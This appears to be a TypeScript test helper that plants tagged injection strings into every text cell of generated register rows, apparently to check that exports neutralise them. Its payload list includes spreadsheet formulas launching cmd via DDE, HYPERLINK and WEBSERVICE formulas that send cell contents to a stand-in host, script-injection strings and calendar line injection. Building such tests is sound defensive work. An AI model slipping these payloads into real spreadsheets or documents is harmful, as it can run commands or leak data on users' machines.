import { createCatalogue, gazetteer, periodOfId, type ExampleRow } from "@canevas-mali/core";
import { DOMAINS } from "@canevas-mali/core/domains";
import { randomOf } from "../support/random.js";
import { randomRow } from "../support/random-rows.js";

/** Stands in every payload, so that it can be found again wherever it comes out. */
export const MARK = "zqx";

/** What somebody may type into a cell so that the next program that opens the file obeys it. */
export const PAYLOADS = [
  "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "  =1+1", "\u00a0=1+1", "'=1+1", "\"=1+1", "\u200b=1+1", "\ufeff=1+1", ";=1+1", ",=1+1", "a\n=1+1",
  "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"clic\")", "=WEBSERVICE(\"http://exemple.invalid/\")", "=IMPORTXML(\"http://exemple.invalid/\",\"//a\")", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "{ DDEAUTO c:\\\\x }",
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "javascript:alert(1)", "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO x\"/>", "]]><x/>", "<!--", "&lt;script&gt;", "${7*7}", "{{PAG-I01}}", "[[#This Row],[x]]",
  "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:faux", "\\n;,", "\u001b[31m\u001b]0;titre\u0007", "\u202e\u2066", "_x003D_1+1", "__proto__",
].map((text, n) => `${text} ${MARK}${n}`);

const catalogue = createCatalogue(DOMAINS);

/** References lead to keys that are payloads too. */
const KEYS: ReadonlyMap<string, readonly string[]> = new Map(catalogue.domains.flatMap((domain) => catalogue.registersOf(domain.id).map((model) => [model.register.id, PAYLOADS] as const)));

/** A payload in every text of every row: one row a payload, the rest of the row at random. Keys and references too, unless `keep` says that they stay good. */
export function planted(register: string, period: string, more: ExampleRow = {}, keep = false): ExampleRow[] {
  const model = catalogue.register(register), covered = periodOfId(period)!;
  const world = { random: randomOf(7), gazetteer: gazetteer(covered.end), period: covered, place: "ML01", keys: KEYS };
  const texts = model.cells.filter((cell) => cell.form === "text" && !cell.computed && !cell.silent && cell.until === null && cell.level === null && !(keep && model.keyCells.includes(cell)));
  const references = new Set(keep ? model.cells.filter((cell) => cell.form === "reference").map((cell) => cell.id) : []);
  return PAYLOADS.map((payload, n) => {
    const base = Object.entries(randomRow(model, n, world)).filter(([id]) => !references.has(id));
    return { ...Object.fromEntries(base), ...more, ...Object.fromEntries(texts.map((cell) => [cell.id, payload])) };
  });
}
